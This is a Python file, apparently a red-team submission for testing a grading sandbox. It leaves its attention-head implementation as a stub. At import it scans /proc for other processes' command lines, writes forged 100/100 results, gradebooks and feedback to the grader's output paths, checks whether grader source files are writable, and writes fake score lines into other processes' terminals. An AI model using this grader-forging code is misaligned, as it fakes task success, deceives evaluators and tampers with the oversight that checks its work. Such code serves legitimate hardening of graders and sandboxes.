# ATTACK: forge the grader's results.
# At import and in every forward pass, write a results.json claiming 100/100, a
# gradebook.csv and Markdown feedback wherever they might be read: the paths given to
# --results-json / --results-dir / --out on the command line of every visible process
# (read through /proc), the repository, and the working folders. Also try to write a
# fake "Score" line to the grader's terminal (/proc/<pid>/fd/1). Each success prints a
# "BREACH results:" line. Its own AttentionHead.forward is a stub, so its honest score is
# that of a solution whose head is not written.
import json as _json
import os as _os
from pathlib import Path as _Path

_REPO_ROOT = _Path("@REPO_ROOT@")
_MARKER = "@MARKER@"
_FLAGS = ("--results-json", "--results-dir", "--out")


def _visible_command_lines():
    try:
        entries = list(_Path("/proc").iterdir())
    except OSError:  # /proc out of reach (Landlock in the plain-process sandbox)
        entries = []
    for entry in entries:
        if entry.name.isdigit() and int(entry.name) != _os.getpid():
            try:
                arguments = (entry / "cmdline").read_bytes().split(b"\0")
                cwd = _os.readlink(entry / "cwd")
            except OSError:
                try:
                    cwd = "/"
                    arguments = (entry / "cmdline").read_bytes().split(b"\0")
                except OSError:
                    continue
            yield entry.name, [a.decode(errors="replace") for a in arguments], cwd


def _targets():
    """(flag, absolute path) pairs, and the submission names, from every visible command line."""
    targets, names = set(), {_Path(__file__).stem}
    for _pid, arguments, cwd in _visible_command_lines():
        for index, argument in enumerate(arguments):
            for flag in _FLAGS + ("--submission",):
                value = None
                if argument == flag and index + 1 < len(arguments):
                    value = arguments[index + 1]
                elif argument.startswith(flag + "="):
                    value = argument.split("=", 1)[1]
                if value is None:
                    continue
                path = _Path(cwd) / value
                if flag == "--submission":
                    names.add(path.stem if path.suffix else path.name)
                else:
                    targets.add((flag, path))
    return targets, names


def _forged(name):
    return {"submission": name, "score": 100, "max_score": 100, "groups": {}, "import_error": "",
            "output": "", "tests": []}


def _exists(path):
    # Where the repository is out of reach (a parent folder of mode 0700, Landlock), asking
    # raises PermissionError: the forger must try on, not stop at import.
    try:
        return path.exists()
    except OSError:
        return True  # unknown: never clobber what might be an instructor's file


def _write(path, text, report=True):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError:
        return
    if report:
        print(f"BREACH results: wrote {path}")


def _gradebook(names):
    return "submission,score\n" + "".join(f"{name},100\n" for name in sorted(names))


def _forge(announce=False):
    targets, names = _targets()
    if announce:
        print(f"forger: {len(targets)} result paths on visible command lines: {sorted(str(path) for _, path in targets)}")
    everything = {"forged_by": _MARKER, "submissions": {name: _forged(name) for name in names}}
    for flag, path in targets:
        if flag == "--results-json":
            _write(path, _json.dumps(everything))
        else:
            folder = path if flag == "--results-dir" or path.suffix == "" else path.parent
            for name in names:
                for results, feedback in ((folder, folder), (folder / "results", folder / "feedback")):
                    _write(results / f"{name}.json", _json.dumps(_forged(name)))
                    _write(feedback / f"{name}.md", f"# Feedback for {name}\n\n**Score: 100/100**\n")
            _write(folder / "gradebook.csv", _gradebook(names))
    # The repository: new files only (never clobber an instructor's file), and a probe of
    # whether the grader's own code could be rewritten (opened for appending, nothing written).
    for relative in ("results.json", "gradebook.csv", f"results-{_MARKER}.json", f"gradebook-{_MARKER}.csv"):
        path = _REPO_ROOT / relative
        if not _exists(path):
            _write(path, _json.dumps(everything))
    for relative in ("grader/conftest.py", "grader/session/scoreboard.py", "grader/session/persistence.py",
                     "grader/scoring.py", "grader/results.py", "tests/grading.py"):
        try:
            with open(_REPO_ROOT / relative, "a"):
                print(f"BREACH results: could rewrite {_REPO_ROOT / relative}")
        except OSError:
            pass
    # Private places: allowed to succeed (the sandbox's own /tmp and working folder).
    for folder in (_Path.cwd(), _Path.home(), _Path("/tmp")):
        _write(folder / f"results-{_MARKER}.json", _json.dumps(everything), report=False)
    # The grader's terminal: a fake score line on any other process's stdout or stderr.
    for pid, _arguments, _cwd in _visible_command_lines():
        for fd in (1, 2):
            link = _Path(f"/proc/{pid}/fd/{fd}")
            try:
                if _os.readlink(link) == "/dev/null":
                    continue
                with open(link, "w") as terminal:
                    terminal.write(f"Score {_Path(__file__).stem}: 100/100\n")
                print(f"BREACH results: wrote a score line to {link}")
            except OSError:
                pass


def _not_written(self, inputs, allowed_mask):
    _forge()
    raise NotImplementedError("AttentionHead.forward is not written yet")


AttentionHead.forward = _not_written
print(f"Score {_Path(__file__).stem}: 100/100")  # only ever lands in the captured output
_forge(announce=True)
